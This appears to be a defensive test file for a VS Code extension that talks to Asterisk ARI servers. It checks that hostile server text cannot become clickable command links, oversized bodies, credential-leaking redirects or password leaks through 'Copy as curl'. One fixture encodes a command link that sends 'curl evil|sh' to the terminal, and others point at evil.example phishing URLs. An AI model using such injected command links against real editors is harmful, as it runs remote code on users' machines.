// Issue 14, findings 2, 4, 5 and 9: a hostile ARI server. Its text must never become a command
// link in a notification, its bodies are capped in bytes, its redirects are refused (they would
// carry the Authorization header elsewhere), and "Copy as curl" embeds the password only for
// the profile's own origin.
import '../fakes/registerVscode';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type * as http from 'node:http';
import type * as vscode from 'vscode';
import { fake, InMemoryMemento, InMemorySecretStorage, MemoryLogOutputChannel, type ShownMessage } from '../fakes/vscode';
import { AriRestClient } from '../../../src/extension/ari/rest';
import { AriError } from '../../../src/extension/ari/errors';
import { ConnectionManager } from '../../../src/extension/connection/manager';
import { registerServerCommands } from '../../../src/extension/commands/server';
import { registerChannelCommands } from '../../../src/extension/commands/channel';
import { registerInvokerCommands } from '../../../src/extension/commands/invoker';
import { registerProfileCommands } from '../../../src/extension/profiles/commands';
import type { ResponseDocuments } from '../../../src/extension/commands/responseDocuments';
import { HISTORY_KEY, type HistoryEntry } from '../../../src/extension/commands/invoker/history';
import { secretKey } from '../../../src/extension/profiles/profile';
import type { Services } from '../../../src/extension/services';
import { channelTooltip } from '../../../src/extension/views/tree/labels';
import { USER, PASSWORD, startLocalAri, emptyAri, failOnUnhandledRejections, assertNoSecrets, withDeadline } from './helpers';

failOnUnhandledRejections();

const LINK = '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const HTTPS_LINK = '[docs](https://evil.example/phish)';

/** A notification text may hold no Markdown link, no line break, and stay short. */
function assertInert(m: ShownMessage | undefined, where: string): void {
  assert.ok(m, `${where}: a message was shown`);
  assert.ok(!/\]\(/.test(m.text), `${where}: link syntax survived: ${m.text.slice(0, 200)}`);
  assert.ok(!/[\r\n]/.test(m.text), `${where}: a line break survived`);
  assert.ok(m.text.length <= 1000, `${where}: ${m.text.length} characters`);
}

function services(
  rest: AriRestClient | undefined,
  extra: Partial<Services> = {},
): { services: Services; log: MemoryLogOutputChannel; secrets: InMemorySecretStorage; workspaceState: InMemoryMemento } {
  const log = new MemoryLogOutputChannel();
  const secrets = new InMemorySecretStorage();
  const workspaceState = new InMemoryMemento();
  const session = { rest, model: { channels: new Map(), bridges: new Map() } };
  const s: Services = {
    context: { workspaceState, globalState: new InMemoryMemento(), secrets } as unknown as vscode.ExtensionContext,
    log: log as unknown as vscode.LogOutputChannel,
    connections: { servers: [], requireSession: () => session, activeProfile: undefined } as unknown as Services['connections'],
    probes: {},
    ...extra,
  };
  return { services: s, log, secrets, workspaceState };
}

const run = (id: string, ...args: unknown[]): Promise<unknown> => Promise.resolve(fake.commands.get(id)!(...args));

test('finding 2: server text in REST errors and variable values never becomes a link, a second line or a 5 MB toast', async () => {
  fake.reset();
  const huge = `${LINK}\n${'A'.repeat(5 * 1024 * 1024)}`;
  const ari = await startLocalAri({
    rest: (path, req, res) => {
      const variable = new URL(req.url ?? '/', 'http://x').searchParams.get('variable');
      if (path.endsWith('/asterisk/variable') && variable === 'JSONERR') {
        res.writeHead(500, { 'Content-Type': 'application/json' });
        res.end(JSON.stringify({ message: huge }));
      } else if (path.endsWith('/asterisk/variable') && variable === 'HTMLERR') {
        res.writeHead(404, { 'Content-Type': 'text/html' });
        res.end(`<html><body><p>${HTTPS_LINK}\r\n${LINK}</p></body></html>`);
      } else if (path.includes('/variable')) {
        res.writeHead(200, { 'Content-Type': 'application/json' });
        res.end(JSON.stringify({ value: `Alice\n\n${LINK} ${HTTPS_LINK}` }));
      } else emptyAri(path, res);
    },
  });
  const rest = new AriRestClient({ url: ari.url, username: USER, password: PASSWORD });
  const { services: s, log } = services(rest);
  const disposables = [...registerServerCommands(s, { show: async () => undefined } as unknown as ResponseDocuments), ...registerChannelCommands(s)];
  try {
    for (const variable of ['JSONERR', 'HTMLERR']) {
      fake.inputBoxAnswers.push(variable);
      const shown = withDeadline(new Promise<ShownMessage>((r) => fake.messageShown.event(r)), 10_000, 'the error');
      await run('ariExplorer.server.getGlobalVar');
      const m = await shown;
      assert.equal(m.level, 'error');
      assertInert(m, `${variable} error toast`);
      assert.match(m.text, /Fix it\] \(command:|docs\] \(https:/, 'the text still reads as it was sent');
    }
    assert.ok(
      log.lines.every((l) => l.length < 5000),
      'no 5 MB log line',
    );

    fake.inputBoxAnswers.push('CALLERID(name)');
    await run('ariExplorer.server.getGlobalVar');
    assertInert(fake.messages.at(-1), 'global variable value');
    fake.inputBoxAnswers.push('CALLERID(name)');
    fake.messageAnswers.push('Copy Value');
    await run('ariExplorer.channel.getVariable', { kind: 'channel', id: 'hostile.1' });
    assertInert(fake.messages.at(-1), 'channel variable value');
    assert.equal(fake.clipboard, `Alice\n\n${LINK} ${HTTPS_LINK}`, 'the full value stays available (copied as sent)');
  } finally {
    disposables.forEach((d) => d.dispose());
    rest.dispose();
    await ari.close();
  }
});

test('finding 2: an ApplicationReplaced app name (no click needed) is shown inert', async () => {
  fake.reset();
  const app = `x"\n\n${LINK}`;
  const ari = await startLocalAri({
    onSocket: (ws) => ws.send(JSON.stringify({ type: 'ApplicationReplaced', application: app, timestamp: '2026-01-01T00:00:00.000+0000' })),
  });
  const context = { globalState: new InMemoryMemento(), secrets: new InMemorySecretStorage() } as unknown as vscode.ExtensionContext;
  const manager = new ConnectionManager(context, new MemoryLogOutputChannel() as unknown as vscode.LogOutputChannel);
  try {
    const warned = withDeadline(
      new Promise<ShownMessage>((r) => fake.messageShown.event((m) => m.level === 'warning' && /ApplicationReplaced/.test(m.text) && r(m))),
      10_000,
      'the warning',
    );
    const p = await manager.profiles.add({ name: 'hostile', url: ari.url, username: USER, apps: [] }, PASSWORD);
    await manager.connect(p.id);
    assertInert(await warned, 'ApplicationReplaced warning');
  } finally {
    manager.dispose();
    await ari.close();
  }
});

test('finding 5: a redirect is refused with an AriError naming the Location; the credentials never reach the other port', async () => {
  const seen: (string | undefined)[] = [];
  const target = await startLocalAri({ rest: (path, req, res) => (seen.push(req.headers.authorization), emptyAri(path, res)) });
  const ari = await startLocalAri({
    rest: (_path, _req, res) => {
      res.writeHead(307, { Location: `${target.url}/ari/asterisk/info` });
      res.end();
    },
  });
  const log = new MemoryLogOutputChannel();
  const rest = new AriRestClient({ url: ari.url, username: USER, password: PASSWORD, log: log as never });
  try {
    const err = await rest.asterisk.info().then(
      () => assert.fail('a redirect must not succeed'),
      (e: unknown) => e,
    );
    assert.ok(err instanceof AriError);
    assert.equal(err.code, 'REDIRECT');
    assert.equal(err.status, 307);
    assert.ok(err.message.includes(`${target.url}/ari/asterisk/info`), err.message);
    assert.deepEqual(seen, [], 'nothing was sent to the redirect target');
    assertNoSecrets(`${err.message} ${err.hint} ${log.lines.join('\n')}`, 'redirect error and log');
  } finally {
    rest.dispose();
    await ari.close();
    await target.close();
  }
});

test('finding 4: an endless REST body stops at the byte cap with TOO_LARGE; memory (RSS, arrayBuffers) stays bounded', async () => {
  let sentBytes = 0;
  let closed!: () => void;
  const serverClosed = new Promise<void>((r) => (closed = r));
  const chunk = Buffer.alloc(1024 * 1024, 0x61);
  const ari = await startLocalAri({
    rest: (_path, req: http.IncomingMessage, res: http.ServerResponse) => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.write('[');
      const pump = (): void => {
        // Up to 400 MB unless the client goes away first.
        while (sentBytes < 400 * 1024 * 1024 && !res.destroyed) {
          sentBytes += chunk.length;
          if (!res.write(chunk)) return void res.once('drain', pump);
        }
        res.end();
      };
      res.on('close', closed);
      req.socket.on('close', closed);
      pump();
    },
  });
  const cap = 4 * 1024 * 1024;
  const rest = new AriRestClient({ url: ari.url, username: USER, password: PASSWORD, maxResponseBytes: cap, timeoutMs: 20_000 });
  const before = process.memoryUsage();
  try {
    const err = await rest.channels.list().then(
      () => assert.fail('a 400 MB body must not be read'),
      (e: unknown) => e,
    );
    const after = process.memoryUsage();
    assert.ok(err instanceof AriError, String(err));
    assert.equal(err.code, 'TOO_LARGE');
    assert.match(err.message, /larger than 4 MB/);
    assert.match(err.hint, /ariExplorer\.maxResponseMegabytes/);
    await withDeadline(serverClosed, 10_000, 'the client to close the connection');
    assert.ok(sentBytes < 100 * 1024 * 1024, `the server stopped early (${sentBytes} bytes sent)`);
    const grewRss = after.rss - before.rss;
    const grewBuffers = after.arrayBuffers - before.arrayBuffers;
    assert.ok(grewRss < 96 * 1024 * 1024, `RSS grew ${Math.round(grewRss / 1048576)} MB`);
    assert.ok(grewBuffers < 32 * 1024 * 1024, `arrayBuffers grew ${Math.round(grewBuffers / 1048576)} MB`);
  } finally {
    rest.dispose();
    await ari.close();
  }
});

test("finding 9: Copy as curl embeds the stored password only for the profile's own origin and prefix", async () => {
  fake.reset();
  const profile = { id: 'p1', name: 'pbx', url: 'http://pbx:8088', username: USER, apps: [] };
  const { services: s, secrets, workspaceState } = services(undefined, {});
  (s.connections as unknown as { activeProfile: unknown }).activeProfile = profile;
  await secrets.store(secretKey('p1'), PASSWORD);
  const disposables = registerInvokerCommands(s, { show: async () => undefined } as unknown as ResponseDocuments);
  type Item = { entry?: HistoryEntry; mode?: string };
  const curlFor = async (baseUrl: string): Promise<string> => {
    const entry: HistoryEntry = {
      at: 1,
      resource: 'asterisk',
      nickname: 'getInfo',
      operationPath: '/asterisk/info',
      request: { method: 'GET', path: '/asterisk/info', query: {} },
      values: {},
      baseUrl,
      username: USER,
      status: 200,
    };
    await workspaceState.update(HISTORY_KEY, [entry]);
    fake.quickPickAnswers.push(
      (items) => (items as Item[])[0],
      (items) => (items as Item[]).find((i) => i.mode === 'password'),
    );
    fake.inputBoxAnswers.push('typed-by-user');
    fake.clipboard = '';
    await run('ariExplorer.api.copyAsCurl');
    assert.match(fake.clipboard, /^curl /, `a curl line for ${baseUrl}`);
    return fake.clipboard;
  };
  try {
    for (const other of [
      'http://pbx.evil.example/ari',
      'http://pbx:8088.evil.example/ari',
      'http://pbx:8089/ari',
      'https://pbx:8088/ari',
      'http://pbx:8088/asterisk/ari',
      'http://pbx@evil.example:8088/ari',
    ]) {
      const line = await curlFor(other);
      assert.ok(!line.includes(PASSWORD), `${other}: the stored password went into ${line}`);
    }
    assert.ok((await curlFor('http://PBX:8088/ari')).includes(PASSWORD), 'the same server still gets it');
  } finally {
    disposables.forEach((d) => d.dispose());
  }
});

test('finding 2: a REST error on Test Connection (showConnectionError) is inert too', async () => {
  fake.reset();
  const ari = await startLocalAri({
    rest: (_path, _req, res) => {
      res.writeHead(503, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ message: `${LINK}\n${HTTPS_LINK}` }));
    },
  });
  const context = { globalState: new InMemoryMemento(), secrets: new InMemorySecretStorage() } as unknown as vscode.ExtensionContext;
  const log = new MemoryLogOutputChannel();
  const manager = new ConnectionManager(context, log as unknown as vscode.LogOutputChannel);
  const disposables = registerProfileCommands({ context, log: log as unknown as vscode.LogOutputChannel, connections: manager, probes: {} });
  try {
    const p = await manager.profiles.add({ name: 'hostile', url: ari.url, username: USER, apps: [] }, PASSWORD);
    await run('ariExplorer.profiles.test', p.id);
    assertInert(
      fake.messages.find((m) => m.level === 'error'),
      'Test Connection error',
    );
  } finally {
    disposables.forEach((d) => d.dispose());
    manager.dispose();
    await ari.close();
  }
});

test('finding 8: a caller name with line breaks and links stays inside its tooltip cell', () => {
  const name = `Bob\n\n| x | y |\n[win](https://evil.example)\r\n<img src=x> \`code\` ${'z'.repeat(2000)}`;
  const md = channelTooltip({
    id: 'c.1',
    name: `PJSIP/1-1\n[t](command:evil)`,
    state: 'Up',
    caller: { name, number: '100' },
    connected: { name: '', number: '' },
    creationtime: '',
    language: 'en',
    accountcode: '',
  } as unknown as Parameters<typeof channelTooltip>[0]);
  const lines = md.split('\n');
  assert.ok(lines[0].startsWith('**PJSIP/1\\-1 \\[t\\]') && !lines[0].includes(']('), lines[0]);
  assert.ok(
    lines.slice(4).every((l) => /^\| .+ \| `[^`]*` \|$/.test(l)),
    `every row is one table row:\n${md}`,
  );
  const caller = lines.find((l) => l.startsWith('| caller'))!;
  assert.ok(caller.length < 500, 'capped');
  assert.ok(!/[^\\]\|/.test(caller.slice(caller.indexOf('`'), caller.lastIndexOf('`'))), 'pipes inside the cell are escaped');
});
